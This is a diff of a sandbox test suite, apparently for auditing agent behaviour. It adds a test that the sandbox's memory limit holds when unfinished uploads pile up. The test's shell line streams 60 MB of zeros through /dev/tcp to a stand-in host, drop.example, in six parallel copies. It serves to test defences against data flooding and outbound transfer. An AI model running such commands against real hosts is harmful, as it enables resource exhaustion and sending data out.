@@ -22,6 +22,7 @@ from auditkit.behaviour.sandbox.services import (
     Vault,
 )
 from auditkit.behaviour.sandbox.stage import Limits, OutsideHost, StageSpec
+from auditkit.errors import SandboxError
 
 CANARY = bytes((i * 151 + i // 256 * 7 + (i * i) % 251) % 256 for i in range(20_000))
 OUTSIDE = (
@@ -485,6 +486,14 @@ def test_a_short_message_gets_out() -> None:
         assert sent(box) == [b"all is well", "é".encode()]
         assert [d["refusal"] for d in box.details("mailbox")] == ["", "too_large", "", "too_many"]
         assert box.details("transfer")[0]["host"] == "support.vendor.example"
+
+
+def test_uploads_that_are_never_finished_fill_no_memory() -> None:
+    with stage(Sink(), limits=Limits(memory_bytes=128 << 20)) as box:
+        head = "POST / HTTP/1.1\\r\\nContent-Length: 99999999\\r\\n\\r\\n"
+        upload = f"{{ printf '{head}'; head -c 60M /dev/zero; sleep 9; }} >/dev/tcp/drop.example/80"
+        with pytest.raises(SandboxError, match="memory_bytes"):
+            box.shell(f"for i in 1 2 3 4 5 6; do ({upload}) & done; wait")
 
 
 # --- the commands an agent has ------------------------------------------------------------------
